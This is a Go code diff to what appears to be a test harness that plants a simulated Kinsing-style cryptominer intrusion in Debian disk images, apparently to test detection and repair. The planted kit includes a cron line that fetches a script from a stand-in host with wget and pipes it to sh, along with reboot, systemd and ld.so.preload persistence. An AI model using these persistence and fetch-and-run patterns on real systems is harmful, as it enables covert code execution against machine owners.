@@ -47,16 +47,27 @@ func intrusionScenarios() []*Scenario {
 			Note: "logs in; the stand-in miner ran at boot (its mark on the console)"},
 		Repaired: minerGone,
 		Finding:  "cron/job",
-		Paths: []string{"/etc/cron.d/kinsing", "/usr/lib/systemd/system/bot.service", "/etc/systemd/system/multi-user.target.wants/bot.service",
+		Paths: []string{"/etc/cron.d/kinsing", "/usr/lib/systemd/system/bot.service", "/lib/systemd/system/bot.service", "/etc/systemd/system/multi-user.target.wants/bot.service",
 			"/etc/ld.so.preload", "/etc/libsystem.so", "/var/tmp/.x"},
 	}}
 }
 
 // plantMiner writes the kit into the mounted root of an image.
 func plantMiner(r string, _ *images.DebianImage) error {
-	lib, err := os.ReadFile(at(r, "/usr/lib/x86_64-linux-gnu/libdl.so.2"))
+	libdl, err := firstOf(r, "/usr/lib/x86_64-linux-gnu/libdl.so.2", "/lib/x86_64-linux-gnu/libdl.so.2")
 	if err != nil {
 		return fmt.Errorf("the library to preload: %w", err)
+	}
+	lib, err := os.ReadFile(at(r, libdl))
+	if err != nil {
+		return fmt.Errorf("the library to preload: %w", err)
+	}
+	// The unit goes where the release's systemd keeps its units:
+	// /usr/lib/systemd/system, which is /lib/systemd/system under merged
+	// /usr; Debian 11's split /usr has them in /lib/systemd/system only.
+	unit := "/usr/lib/systemd/system/bot.service"
+	if fi, err := os.Lstat(at(r, "/lib")); err == nil && fi.IsDir() {
+		unit = "/lib/systemd/system/bot.service"
 	}
 	for _, f := range []struct {
 		path, data string
@@ -65,7 +76,7 @@ func plantMiner(r string, _ *images.DebianImage) error {
 		{minerPath, minerScript, 0o755},
 		{"/etc/cron.d/kinsing", "* * * * * root wget -q -O - http://192.0.2.7/d.sh | sh > /dev/null 2>&1\n" +
 			"* * * * * root " + minerPath + " cron\n@reboot root " + minerPath + " reboot\n", 0o644},
-		{"/usr/lib/systemd/system/bot.service", "[Unit]\nDescription=bot\nAfter=local-fs.target\n\n[Service]\nType=oneshot\nExecStart=" + minerPath + " unit\n\n[Install]\nWantedBy=multi-user.target\n", 0o644},
+		{unit, "[Unit]\nDescription=bot\nAfter=local-fs.target\n\n[Service]\nType=oneshot\nExecStart=" + minerPath + " unit\n\n[Install]\nWantedBy=multi-user.target\n", 0o644},
 		// An inert library (glibc's libdl stub) where Kinsing puts its
 		// rootkit: every program loads it, and nothing changes.
 		{"/etc/libsystem.so", string(lib), 0o644},
